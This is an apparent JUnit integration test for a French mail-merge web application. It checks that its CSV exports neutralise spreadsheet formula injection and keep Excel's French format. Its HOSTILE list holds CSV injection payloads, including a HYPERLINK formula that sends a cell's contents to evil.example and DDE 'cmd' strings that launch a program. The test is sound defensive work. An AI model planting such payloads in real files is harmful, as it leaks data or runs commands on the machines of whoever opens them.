package fr.publipostage.web;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.univocity.parsers.csv.CsvParser;
import com.univocity.parsers.csv.CsvParserSettings;
import fr.publipostage.Setting;
import fr.publipostage.web.WebFixture.Who;
import java.io.StringReader;
import java.net.http.HttpResponse;
import java.sql.Connection;
import java.sql.PreparedStatement;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * Leak 5 of issue 10: every CSV the application writes (the check step's export, the list of people
 * without an address, the campaign ledger) goes through one writer that neutralises formulas — a
 * cell starting with = + - @, a tab or a carriage return opens as text in a spreadsheet — and keeps
 * the French Excel format (';', quoted, UTF-8 BOM, CRLF).
 */
class CsvFormulaIT {
    private static final List<String> HOSTILE = List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"clic\")",
            "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1");
    private static WebFixture web;
    private static long campaignId;

    @BeforeAll
    static void start() throws Exception {
        web = new WebFixture(Map.of(Setting.MAIL_BATCH, "200"));
        // Hostile names on teachers with an address (mailed: in the ledger) and without one.
        try (Connection c = web.db.database().dataSource().getConnection();
             PreparedStatement st = c.prepareStatement("""
                     update account set last_name = ?, first_name = ?
                     where id = (select id from account where profile = 'Teacher' and structure_id =
                                 (select id from structure where uai = ?) and (email is null) = ?
                                 and not last_name like any (array['=%', '+%', '@%', '-%', E'\\t%', E'\\r%'])
                                 order by id limit 1)""")) {
            for (int i = 0; i < HOSTILE.size(); i++) {
                st.setString(1, HOSTILE.get(i));
                st.setString(2, HOSTILE.get((i + 1) % HOSTILE.size()));
                st.setString(3, WebFixture.OWN);
                st.setBoolean(4, i % 2 == 1);
                assertThat(st.executeUpdate()).isEqualTo(1);
            }
        }
        WebFixture.Client admin = web.as(Who.LOCAL_OWN);
        HttpResponse<String> started = admin.post("/api/structures/" + WebFixture.OWN + "/campaigns",
                Map.of("profile", "Teacher"), "X-CSRF-Token", admin.csrf);
        assertThat(started.statusCode()).as(started.body()).isEqualTo(201);
        campaignId = new ObjectMapper().readTree(started.body()).get("id").asLong();
        while (!web.app.campaigns().progress(campaignId).campaign().isOver()) web.app.mailWorker().runOnce();
    }

    @AfterAll
    static void stop() {
        web.close();
    }

    /** The format, then every cell: none a spreadsheet would run; returns the rows. */
    static List<String[]> checkCsv(HttpResponse<String> r) {
        assertThat(r.statusCode()).isEqualTo(200);
        String body = r.body();
        assertThat(body).startsWith("\uFEFF\"");
        assertThat(body.replace("\r\n", "")).as("every line ends with CRLF").doesNotContain("\n").endsWith("\"");
        CsvParserSettings s = new CsvParserSettings();
        s.getFormat().setDelimiter(';');
        s.getFormat().setLineSeparator("\r\n");
        s.setNullValue("");
        s.setKeepQuotes(false);
        s.setIgnoreLeadingWhitespaces(false);
        s.setIgnoreTrailingWhitespaces(false);
        s.setMaxCharsPerColumn(100_000);
        List<String[]> rows = new CsvParser(s).parseAll(new StringReader(body.substring(1)));
        for (String[] row : rows) {
            for (String cell : row) {
                if (cell == null || cell.isEmpty()) continue;
                assertThat("=+-@\t\r".indexOf(cell.charAt(0))).as("cell «" + cell + "» would run as a formula").isLessThan(0);
            }
        }
        return rows;
    }

    private static void containsNeutralised(List<String[]> rows, int count) {
        long found = rows.stream().flatMap(r -> java.util.Arrays.stream(r))
                .filter(cell -> cell != null && HOSTILE.stream().anyMatch(h -> cell.equals("'" + h))).count();
        assertThat(found).as("hostile cells kept as text, with a leading apostrophe").isGreaterThanOrEqualTo(count);
    }

    @Test
    void theCheckStepsExportNeutralisesFormulas() {
        WebFixture.Client admin = web.as(Who.LOCAL_OWN);
        containsNeutralised(checkCsv(admin.get("/api/structures/" + WebFixture.OWN + "/export.csv?profile=Teacher")),
                HOSTILE.size() * 2);
    }

    @Test
    void theListWithoutAddressNeutralisesFormulas() {
        WebFixture.Client admin = web.as(Who.LOCAL_OWN);
        containsNeutralised(checkCsv(admin.get("/api/structures/" + WebFixture.OWN + "/export.csv?profile=Teacher&email=without")),
                HOSTILE.size());
    }

    @Test
    void theLedgerNeutralisesFormulas() {
        WebFixture.Client admin = web.as(Who.LOCAL_OWN);
        List<String[]> rows = checkCsv(admin.get("/api/structures/" + WebFixture.OWN + "/campaigns/" + campaignId + "/ledger.csv"));
        containsNeutralised(rows, HOSTILE.size() * 2);
    }
}
